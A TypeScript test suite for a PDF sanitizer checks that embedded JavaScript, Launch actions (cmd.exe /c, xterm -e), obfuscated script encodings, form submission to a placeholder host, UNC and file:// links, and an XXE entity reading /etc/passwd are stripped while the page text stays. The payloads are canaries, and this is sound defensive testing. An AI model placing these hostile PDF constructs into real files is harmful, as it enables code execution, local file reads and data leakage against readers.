/** Everything in a PDF that acts by itself or at a click (threats.tsv P01–P11, P13, P26, P30): gone, counted, and the page stays. */
import { createServer } from 'node:net';
import { expect, test } from 'vitest';
import { openAviary } from '../../kit/canary.ts';
import { deflated, objectStream, type RawPage, type RawPdf, rawPage, shows, stream } from '../../kit/pdf-raw.ts';
import { attached, mixed, noticeLine, through } from '../through.ts';
import { type CrossedPdf, crossed, expectDead, expectInert } from './crossed.ts';

const aviary = openAviary();
const WORDS = 'Visible words';
const HOST = `${aviary.die('host of an address')}.example.invalid`;
const CODE = `app.alert\\("${aviary.die('script')}"\\)`;
const FILE = aviary.die('name of a program or file');

const js = (code = `(${CODE})`): string => `<< /S /JavaScript /JS ${code} >>`;
const annotation = (entries: string): string => `<< /Type /Annot /Rect [60 690 320 725] ${entries} >>`;
const linked = (action: string): RawPage => ({ page: `/Annots [${annotation(`/Subtype /Link /A ${action}`)}]` });
const field = (entries: string): RawPage => ({
  catalog: '/AcroForm << /Fields [6 0 R] /DR << /Font << /F1 5 0 R >> >> /DA (/F1 9 Tf 0 g) >>',
  page: '/Annots [6 0 R]',
  more: [annotation(`/Subtype /Widget /FT /Tx /T (f) ${entries}`)],
});

type Row = readonly [id: string, what: string, page: RawPage, around?: Omit<RawPdf, 'objects'>];

const triggers = (id: string, where: string, keys: string, page: (entry: string) => RawPage): readonly Row[] =>
  keys.split(' ').map((key) => [id, `a script at /${key} of ${where}`, page(`/AA << /${key} ${js()} >>`)] as const);

const encoded = (write: (code: string) => string): string => write(CODE.replaceAll('\\', ''));
const OCTAL = encoded((code) =>
  [...code].map((letter) => `\\${letter.charCodeAt(0).toString(8).padStart(3, '0')}`).join(''),
);
const HEX = encoded((code) => Buffer.from(code, 'latin1').toString('hex'));
const UTF16 = encoded((code) => `FEFF${Buffer.from(code, 'utf16le').swap16().toString('hex')}`);

const SCRIPTS: readonly Row[] = [
  ['P01', 'a script at opening', { catalog: `/OpenAction ${js()}` }],
  ['P01', 'a script at opening, by reference', { catalog: '/OpenAction 6 0 R', more: [js()] }],
  ['P01', 'a script in a stream', { catalog: `/OpenAction ${js('6 0 R')}`, more: [deflated(CODE)] }],
  [
    'P01',
    'a script behind another action',
    { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next ${js()} >>] >>` },
  ],
  ['P02', 'a script with a name', { catalog: `/Names << /JavaScript << /Names [(a) ${js()}] >> >>` }],
  [
    'P02',
    'a script deep in the tree',
    { catalog: `/Names << /JavaScript << /Kids [<< /Limits [(a) (a)] /Names [(a) ${js()}] >>] >> >>` },
  ],
  ...triggers('P02', 'a field', 'K F V C', field),
  ...triggers('P02', 'a page', 'O C', (page) => ({ page })),
  ...triggers('P02', 'the document', 'WC WS DS WP DP', (catalog) => ({ catalog })),
  ...triggers('P02', 'a mark', 'E X D U Fo Bl PO PC PV PI', (entry) => ({
    page: `/Annots [${annotation(`/Subtype /Screen ${entry}`)}]`,
  })),
  ['P02', 'a script of a button', field(`/FT /Btn /A ${js()}`)],
  ['P02', 'a script of a link', linked(js())],
  ['P02', 'a script of a rendition', linked(`<< /S /Rendition /OP 0 /JS (${CODE}) /R << /S /MR >> >>`)],
  [
    'P02',
    'a script of a 3D scene',
    {
      page: `/Annots [${annotation('/Subtype /3D /3DD 6 0 R /3DA << /A /PO >>')}]`,
      more: [stream('U3D', '/Type /3D /Subtype /U3D /OnInstantiate 7 0 R'), stream(CODE)],
    },
  ],
  [
    'P02',
    'a script of a bookmark',
    {
      catalog: '/Outlines 6 0 R',
      more: ['<< /Type /Outlines /First 7 0 R /Last 7 0 R >>', `<< /Title (x) /Parent 6 0 R /A ${js()} >>`],
    },
  ],
  [
    'P02',
    'a script in a static XFA form',
    {
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
      more: [
        stream(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${CODE}</script></event></subform></template></xdp:xdp>`,
        ),
      ],
    },
  ],
  ['P03', 'a name in disguise', { catalog: `/Open#41ction << /#53 /J#61vaScript /#4a#53 (${CODE}) >>` }],
  ['P03', 'code in octal', { catalog: `/OpenAction ${js(`(${OCTAL})`)}` }],
  ['P03', 'code in hex', { catalog: `/OpenAction ${js(`<${HEX}>`)}` }],
  ['P03', 'code in hex with blanks', { catalog: `/OpenAction ${js(`<${HEX.replace(/../g, '$& \n')}>`)}` }],
  ['P03', 'code in UTF-16', { catalog: `/OpenAction ${js(`<${UTF16}>`)}` }],
  ['P03', 'code over lines', { catalog: `/OpenAction ${js(`(${CODE.replace('alert', 'al\\\nert')})`)}` }],
  ['P03', 'comments between', { catalog: `/OpenAction%x\n<</S%x\n/JavaScript%x\n/JS%x\n(${CODE})>>` }],
  [
    'P04',
    'a script in an object stream',
    { catalog: '/OpenAction 6 0 R', more: [js()] },
    { xref: 'stream', packed: [1, 2, 3, 6] },
  ],
  [
    'P04',
    'a script under encryption with an empty password',
    { catalog: '/OpenAction 6 0 R', more: [js()] },
    { userPassword: '' },
  ],
  [
    'P04',
    'a script in an object stream under encryption',
    { catalog: '/OpenAction 6 0 R', more: [js()] },
    { userPassword: '', xref: 'stream', packed: [6] },
  ],
  ['P04', 'a script in the trailer of a cross-reference stream', {}, { xref: 'stream', trailer: `/X ${js()}` }],
  ['P04', 'an object stream that no table names', { more: [objectStream([[9, js()]])] }],
];

const ADDRESSES = [`\\\\\\\\${HOST}\\\\share`, `http://${HOST}/`, `https://${HOST}/a?b`, `ftp://${HOST}/`];
const spec = (address: string): string => `<< /Type /Filespec /FS /URL /F (${address}) >>`;

const ACTIONS: readonly Row[] = [
  ['P05', 'a program', linked(`<< /S /Launch /F (${FILE}.exe) >>`)],
  ['P05', 'a program for Windows', linked(`<< /S /Launch /Win << /F (cmd.exe) /P (/c ${FILE}) /O (open) >> >>`)],
  ['P05', 'a program for Unix', linked(`<< /S /Launch /Unix (xterm -e ${FILE}) >>`)],
  ['P05', 'a program for Mac', linked(`<< /S /Launch /Mac << /F (${FILE}) >> >>`)],
  ['P05', 'a program at opening', { catalog: `/OpenAction << /S /Launch /F (${FILE}.exe) /NewWindow true >>` }],
  ['P05', 'a program behind a page', { page: `/AA << /C << /S /Launch /F (${FILE}) >> >>` }],
  ...ADDRESSES.flatMap((address): readonly Row[] => [
    ['P06', `another document at ${address.slice(0, 6)}`, linked(`<< /S /GoToR /F (${address}) /D [0 /Fit] >>`)],
    [
      'P06',
      `a document in a document at ${address.slice(0, 6)}`,
      linked(`<< /S /GoToE /F ${spec(address)} /D (x) /T << /R /C /N (x) >> >>`),
    ],
    [
      'P06',
      `an address at opening, ${address.slice(0, 6)}`,
      { catalog: `/OpenAction << /S /URI /URI (${address}) >>` },
    ],
    [
      'P06',
      `a form sent to ${address.slice(0, 6)}`,
      field(`/FT /Btn /A << /S /SubmitForm /F ${spec(address)} /Flags 4 >>`),
    ],
    [
      'P06',
      `a form filled from ${address.slice(0, 6)}`,
      { catalog: `/OpenAction << /S /ImportData /F ${spec(address)} >>` },
    ],
    ['P06', `a thread at ${address.slice(0, 6)}`, linked(`<< /S /Thread /F (${address}) /D 0 >>`)],
  ]),
  [
    'P06',
    'a base for all addresses',
    { ...linked('<< /S /URI /URI (x) >>'), catalog: `/URI << /Base (http://${HOST}/) >>` },
  ],
  [
    'P08',
    'a form that sends itself at opening',
    {
      ...field(`/V (Taro) /DV (${aviary.die('default value')})`),
      page: `/Annots [6 0 R] /AA << /O << /S /SubmitForm /F ${spec(`http://${HOST}/`)} /Fields [6 0 R] /Flags 4 >> >>`,
    },
  ],
  ['P08', 'a form that empties itself', field('/V (Taro) /AA << /K << /S /ResetForm /Fields [6 0 R] >> >>')],
  ['P09', 'a script that saves', { catalog: `/OpenAction ${js(`(this.saveAs\\("/c/${FILE}"\\))`)}` }],
  [
    'P09',
    'a script that writes out a file',
    { catalog: `/OpenAction ${js(`(this.exportDataObject\\({cName:"${FILE}",nLaunch:2}\\))`)}` },
  ],
  ['P09', 'a menu entry that saves', { catalog: '/OpenAction << /S /Named /N /SaveAs >>' }],
  ['P13', 'a script as address', linked(`<< /S /URI /URI (javascript:${CODE}) >>`)],
  ['P13', 'a file as address', linked(`<< /S /URI /URI (file://${HOST}/x) >>`)],
  ['P13', 'a search as address', linked(`<< /S /URI /URI (search-ms:query=${FILE}&crumb=location:${ADDRESSES[0]}) >>`)],
  [
    'P13',
    'a link as /PA',
    {
      page: `/Annots [${annotation(`/Subtype /Link /PA << /S /URI /URI (file://${HOST}/) >> /A << /S /Launch /F (${FILE}) >>`)}]`,
    },
  ],
];

/** What stands at the place of the picture only; the engine does not count all of it. */
const MEDIA: readonly Row[] = [
  [
    'P11',
    'a Flash film',
    {
      page: `/Annots [${annotation(`/Subtype /RichMedia /RichMediaSettings << /Activation << /Condition /PO >> >> /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> /Configurations [<< /Subtype /Flash /Instances [<< /Asset 6 0 R /Params << /FlashVars (${aviary.die('variables of a film')}) >> >>] >>] >>`)}]`,
      more: [
        '<< /Type /Filespec /F (a.swf) /EF << /F 7 0 R >> >>',
        stream(`FWS\x09${aviary.die('film')}`, '/Type /EmbeddedFile'),
      ],
    },
  ],
  [
    'P11',
    'a 3D scene',
    {
      page: `/Annots [${annotation('/Subtype /3D /3DD 6 0 R')}]`,
      more: [stream(`U3D\0${aviary.die('U3D')}`, '/Type /3D /Subtype /U3D')],
    },
  ],
  [
    'P11',
    'a PRC scene',
    {
      page: `/Annots [${annotation('/Subtype /3D /3DD 6 0 R')}]`,
      more: [deflated(`PRC${aviary.die('PRC')}`, '/Type /3D /Subtype /PRC')],
    },
  ],
  [
    'P11',
    'a film',
    { page: `/Annots [${annotation(`/Subtype /Movie /Movie << /F (${FILE}.avi) /Poster true >> /A true`)}]` },
  ],
  [
    'P11',
    'a sound',
    {
      page: `/Annots [${annotation('/Subtype /Sound /Sound 6 0 R')}]`,
      more: [stream(aviary.die('sound'), '/Type /Sound /R 8000')],
    },
  ],
  [
    'P11',
    'a screen',
    {
      page: `/Annots [${annotation(`/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /F (${FILE}) /FS /URL >> >> >> >>`)}]`,
    },
  ],
  [
    'P11',
    'a rendition with a name',
    { catalog: `/Names << /Renditions << /Names [(a) << /S /MR /N (${FILE}) >>] >> >>` },
  ],
  ['P26', 'a slide show', { page: '/Trans << /S /Dissolve /D 9 >> /Dur 1', catalog: '/PageMode /FullScreen' }],
  [
    'P26',
    'no window around it',
    {
      catalog:
        '/ViewerPreferences << /HideToolbar true /HideMenubar true /HideWindowUI true /NonFullScreenPageMode /UseNone >> /PageLayout /OneColumn',
    },
  ],
  ['P26', 'another open file', { catalog: '/OpenAction [3 0 R /XYZ 0 0 64] /PageMode /UseAttachments' }],
];

const withWords = (page: RawPage, around?: Row[3]): Buffer =>
  rawPage({ ...page, content: shows(WORDS, 600) + (page.content ?? '') }, around);

/** Every row with four cells. */
const cases = (rows: readonly Row[]) => rows.map(([id, what, page, around = {}]) => [id, what, page, around] as const);

test.each(cases([...SCRIPTS, ...ACTIONS]))(
  '%s: %s is gone and told, the page stays',
  async (_id, _what, page, around) => {
    const pdf = await crossed(withWords(page, around));
    expectInert(pdf.rebuilt);
    expectDead(pdf, aviary.canaries);
    expect(pdf.shown).toContain(WORDS);
    expect(isTold(pdf)).toBe(true);
  },
);

const isTold = ({ removed, attachment }: CrossedPdf): boolean =>
  (['script', 'action', 'link', 'form', 'annotation'] as const).some((what) => (removed[what] ?? 0) > 0) ||
  (attachment.links ?? []).length > 0;

test.each(cases(MEDIA))('%s: %s is gone, the page stays', async (_id, _what, page, around) => {
  const pdf = await crossed(withWords(page, around));
  expectInert(pdf.rebuilt);
  expectDead(pdf, aviary.canaries);
  expect(pdf.shown).toContain(WORDS);
});

test('benign twin: a page without any of it loses nothing', async () => {
  const pdf = await crossed(rawPage({ content: shows(WORDS) }));
  expect(pdf.shown).toBe(WORDS);
  expect(pdf.attachment).toMatchObject({ outcome: 'rebuilt', removed: [] });
});

test('P08: what was filled in stays readable, the form does not (benign twin)', async () => {
  const pdf = await crossed(withWords(field('/V (Taro) /DA (/F1 12 Tf 0 g)')));
  expect(pdf.shown).toContain('Taro');
  expect(pdf.removed).toEqual({ form: 1 });
  expectInert(pdf.rebuilt);
});

const ELSEWHERE: readonly Row[] = [
  [
    'P07',
    'a stream in another file',
    { content: '', page: '/Contents [4 0 R 6 0 R]', more: ['<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream'] },
  ],
  [
    'P07',
    'a filtered stream in another file',
    {
      page: '/Contents [4 0 R 6 0 R]',
      more: [
        `<< /Length 0 /F << /Type /Filespec /FS /URL /F (http://${HOST}/) >> /FFilter /FlateDecode >>\nstream\n\nendstream`,
      ],
    },
  ],
  [
    'P07',
    'a page of another document',
    {
      content: '/X Do',
      resources: '/XObject << /X 6 0 R >>',
      more: [stream('', '/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Ref << /F (/etc/passwd) /Page 0 >>')],
    },
  ],
  [
    'P07',
    'a picture by OPI',
    {
      content: 'q 99 0 0 99 60 60 cm /X Do Q',
      resources: '/XObject << /X 6 0 R >>',
      more: [
        stream(
          '\0',
          '/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /OPI << /1.3 << /Type /OPI /F (/etc/passwd) >> >>',
        ),
      ],
    },
  ],
  [
    'P07',
    'an XFA form with a file',
    {
      catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>',
      more: [
        stream(
          '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>',
        ),
      ],
    },
  ],
];

test.each(cases(ELSEWHERE))('%s: %s is not read', async (_id, _what, page, around) => {
  const pdf = await crossed(withWords(page, around));
  expectInert(pdf.rebuilt);
  expectDead(pdf, aviary.canaries);
  expect(pdf.shown).toBe(WORDS);
  expect(pdf.everything).not.toMatch(/root:x?:0/);
});

test.each([
  [
    'data for a form',
    'a.fdf',
    'application/vnd.fdf',
    `%FDF-1.2\n1 0 obj\n<< /FDF << /F (http://${HOST}/x.pdf) /JavaScript << /After (${CODE}) >> >> >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
  ],
  [
    'the same, called a PDF',
    'a.pdf',
    'application/pdf',
    `%FDF-1.2\n1 0 obj\n<< /FDF << /F (${FILE}) >> >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
  ],
  [
    'data for a form in XML',
    'a.xfdf',
    'application/vnd.adobe.xfdf',
    `<?xml version="1.0"?><xfdf xmlns="http://ns.adobe.com/xfdf/"><f href="http://${HOST}/x.pdf"/></xfdf>`,
  ],
])('P07: %s never goes on as such', async (_what, name, type, content) => {
  const mail = await through(...mixed(attached(name, type, content)));
  for (const file of mail.files) expect(file.name).toMatch(/\.txt$/);
  expect(mail.everything).not.toMatch(/%FDF|http:\/\//);
  expect(mail.report.attachments[0]?.outcome === 'blocked' ? noticeLine(mail, name) : 'お渡しできません').toContain(
    'お渡しできません',
  );
});

test('P30: nobody is called while all of these are rebuilt', async () => {
  let calls = 0;
  const server = createServer((socket) => {
    calls++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const home = `http://127.0.0.1:${port}/`;
  const pages: readonly RawPage[] = [
    { catalog: `/OpenAction << /S /URI /URI (${home}) >>` },
    { catalog: `/OpenAction ${js(`(app.launchURL\\("${home}"\\))`)}` },
    { page: `/Contents [6 0 R]`, more: [`<< /Length 0 /F ${spec(home)} >>\nstream\n\nendstream`] },
    field(`/FT /Btn /A << /S /SubmitForm /F ${spec(home)} >>`),
    {
      content: '/X Do',
      resources: '/XObject << /X 6 0 R >>',
      more: [stream('', `/Type /XObject /Subtype /Image /Width 1 /Height 1 /F ${spec(home)}`)],
    },
  ];
  try {
    for (const page of pages) await crossed(rawPage(page));
    expect(calls).toBe(0);
    // The listener does hear: what one fetch does would be seen.
    await fetch(home).catch(() => undefined);
    expect(calls).toBe(1);
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
});
